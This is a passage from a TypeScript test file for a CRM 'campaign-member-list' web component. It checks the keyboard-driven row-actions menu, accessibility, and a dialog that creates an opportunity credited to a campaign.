    await el.updateComplete;
    expect(root(el).querySelector('.body [role=row] input[type=checkbox]')!.getAttribute('aria-label')).to.match(/^Select F000\d/);
  });

  it('row-actions: a "⋯" menu at the end of each row — opened by click or Enter, moved by arrows, closed by Escape (focus back on the grid), member-action on a choice', async () => {
    const { el } = await renderWithAdapter<CampaignMemberList>(
      html`<campaign-member-list campaign="E" columns="name,status" row-actions="call=Log a call; email=Send an email"></campaign-member-list>`,
      (a) => seed(a, 3),
    );
    await ready(el);
    const buttons = [...root(el).querySelectorAll<HTMLButtonElement>('.row-menu-button')];
    expect(buttons.length).to.equal(3);
    expect(buttons[0].getAttribute('aria-label')).to.match(/^Actions for F000\d/);
    const chosen: { action: string; id: string }[] = [];
    el.addEventListener('member-action', (e) => chosen.push({ action: e.detail.action, id: e.detail.member.id }));
    buttons[0].click();
    await waitUntil(() => root(el).querySelector('.row-menu:popover-open'), 'the menu opens');
    const items = [...root(el).querySelectorAll<HTMLElement>('.row-menu [role=menuitem]')];
    expect(items.map((i) => i.textContent!.trim())).to.deep.equal(['Log a call', 'Send an email']);
    expect((root(el) as ShadowRoot).activeElement).to.equal(items[0]);
    expect(buttons[0].getAttribute('aria-expanded')).to.equal('true');
    await expect(el).to.be.accessible();
    await sendKeys({ press: 'ArrowDown' });
    expect((root(el) as ShadowRoot).activeElement).to.equal(items[1]);
    await sendKeys({ press: 'Enter' });
    await waitUntil(() => !root(el).querySelector('.row-menu'), 'the menu closes');
    expect(chosen.length).to.equal(1);
    expect(chosen[0].action).to.equal('email');
    // Keyboard from the grid: the row's last cell, Enter opens; Escape closes, focus back on the grid.
    grid(el).focus();
    key(el, 'ArrowDown');
    key(el, 'End');
    await el.updateComplete;
    key(el, 'Enter');
    await waitUntil(() => root(el).querySelector('.row-menu:popover-open'), 'opened from the keyboard');
    await sendKeys({ press: 'Escape' });
    await waitUntil(() => !root(el).querySelector('.row-menu'), 'Escape closes');
    expect((root(el) as ShadowRoot).activeElement).to.equal(grid(el));
    expect(chosen.length).to.equal(1);
    // Scrolling the grid closes an open menu (it would point at another row).
    buttons[1].click();
    await waitUntil(() => root(el).querySelector('.row-menu:popover-open'), 'opened again');
    grid(el).dispatchEvent(new Event('scroll'));
    await waitUntil(() => !root(el).querySelector('.row-menu'), 'a scroll closes it');
  });

  it('row-actions="create-opportunity": a contact\'s response becomes a deal credited to the campaign (a lead gets no such item)', async () => {
    const { el, adapter } = await renderWithAdapter<CampaignMemberList>(
      html`<campaign-member-list campaign="E" columns="name,status" row-actions="create-opportunity; call=Log a call"></campaign-member-list>`,
      async (a) => {
        await a.saveCampaign({ id: 'E', name: 'Summit', type: 'event', currency: 'EUR' });
        await a.importLeads({ campaignId: 'E', status: 'Registered' }, [{ firstName: 'Ana', lastName: 'Pop', email: 'ana@example.com', company: 'Acme' }, { lastName: 'Lead', email: 'lead@example.com' }]);
        const ana = (await a.pageMembers({ campaignId: 'E', search: 'ana' })).items[0];
        const lead = await a.getLead(ana.leadId!);
        await a.convertLead({ leadId: lead.id, leadVersion: lead.version, account: { mode: 'new' }, contact: { mode: 'new' } });
      },
    );
    await ready(el);
    await waitUntil(() => root(el).querySelectorAll('.row-menu-button').length === 2);
    const menuItems = async (label: RegExp) => {
      const button = [...root(el).querySelectorAll<HTMLButtonElement>('.row-menu-button')].find((b) => label.test(b.getAttribute('aria-label')!))!;
      button.click();
      await waitUntil(() => root(el).querySelector('.row-menu:popover-open'));
      return [...root(el).querySelectorAll<HTMLElement>('.row-menu [role=menuitem]')];
    };
    const forLead = await menuItems(/Lead$/);
    expect(forLead.map((i) => i.textContent!.trim())).to.deep.equal(['Log a call']);
    await sendKeys({ press: 'Escape' });
    await waitUntil(() => !root(el).querySelector('.row-menu'));
    const forContact = await menuItems(/Ana Pop/);
    expect(forContact.map((i) => i.textContent!.trim())).to.deep.equal(['Create opportunity', 'Log a call']);
    forContact[0].click();
    await waitUntil(() => root(el).querySelector<HTMLDialogElement>('dialog.opportunity')?.open, 'the dialog');
    const dialog = root(el).querySelector<HTMLDialogElement>('dialog.opportunity')!;
    expect(dialog.querySelector('h3')!.textContent).to.equal('New opportunity from Ana Pop');
    expect(dialog.querySelector<HTMLInputElement>('#opp-name')!.value).to.equal('Acme - Ana Pop');
    expect((root(el) as ShadowRoot).activeElement!.id).to.equal('opp-name');
    await expect(el).to.be.accessible();
    dialog.querySelector<HTMLInputElement>('#opp-amount')!.value = '2,500';
    const created = oneEvent(el, 'opportunity-created');
    dialog.querySelector<HTMLButtonElement>('button[type=submit]')!.click();
    const { opportunity } = (await created).detail;
    expect(opportunity).to.deep.include({ name: 'Acme - Ana Pop', amount: 2500, currency: 'EUR', primaryCampaignId: 'E', stage: 'prospecting' });
    expect(dialog.open).to.equal(false);
    expect((await adapter.campaignResults('E')).opportunities.count).to.equal(1);
    await waitUntil(() => root(el).querySelector('.announce')!.textContent!.includes('Opportunity Acme - Ana Pop created'));
  });
});
